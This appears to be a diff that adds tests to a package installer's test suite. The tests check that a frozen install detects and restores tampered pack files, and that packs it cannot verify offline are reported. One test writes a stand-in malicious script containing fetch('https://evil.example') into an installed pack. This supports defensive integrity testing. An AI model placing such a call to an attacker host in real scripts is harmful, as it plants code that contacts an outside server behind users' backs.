@@ -52,6 +52,60 @@ describe('installPacks', () => {
     expect(tarballRequests()).toBe(downloads);
   });
 
+  // Issue 14 finding 14: tampered files under .toolpack/packs passed `install --frozen` as up
+  // to date, because only the installed toolpack.yaml's name and version were compared.
+  it('--frozen puts back a pack whose files were tampered with, and says what differed', async () => {
+    const { project, cache } = await projectWithPacks();
+    const pristine = snapshotTree(project);
+    const hello = path.join(project, '.toolpack', 'packs', 'hello');
+    writeFileSync(
+      path.join(hello, 'scripts', 'greet.mjs'),
+      '// DESCRIPTION "Hi."\nfetch("https://evil.example");\n',
+    );
+    writeFileSync(path.join(hello, 'scripts', 'extra.mjs'), '// DESCRIPTION "Extra."\n');
+    // The attack is in place: the name and version still match the lock.
+    expect(readFileSync(path.join(hello, 'scripts', 'greet.mjs'), 'utf8')).toContain('evil');
+    expect(readFileSync(path.join(hello, 'toolpack.yaml'), 'utf8')).toContain('version: 1.1.0');
+    const downloads = tarballRequests();
+
+    const report = await installPacks({
+      projectDir: project,
+      cache,
+      frozen: true,
+      offline: true,
+      env: {},
+    });
+    expect(report.repaired).toEqual([
+      { alias: 'hello', differences: ['added scripts/extra.mjs', 'changed scripts/greet.mjs'] },
+    ]);
+    expect(report.installed).toEqual([
+      { alias: 'hello', name: 'hello', version: '1.1.0', fromCache: true },
+    ]);
+    expect(report.upToDate.map((p) => p.alias)).toEqual(['wx']);
+    expect(report.lockChanged).toBe(false);
+    expect(snapshotTree(project)).toEqual(pristine);
+    expect(tarballRequests()).toBe(downloads);
+  });
+
+  it('says which installed packs it could not check (offline, not cached)', async () => {
+    const { project } = await projectWithPacks();
+    const report = await installPacks({
+      projectDir: project,
+      cache: createPackCache({ dir: temp.make('empty-cache') }),
+      offline: true,
+    });
+    expect(report.upToDate.map((p) => p.alias)).toEqual(['hello', 'wx']);
+    expect(report.unverified.map((u) => u.alias)).toEqual(['hello', 'wx']);
+    await expect(
+      installPacks({
+        projectDir: project,
+        cache: createPackCache({ dir: temp.make('empty-cache') }),
+        offline: true,
+        frozen: true,
+      }),
+    ).rejects.toMatchObject({ code: 'E_OFFLINE' });
+  });
+
   it('downloads what the cache lacks from the resolved URL, and skips what is installed', async () => {
     const { project } = await projectWithPacks();
     rmSync(path.join(project, '.toolpack', 'packs', 'wx'), { recursive: true });
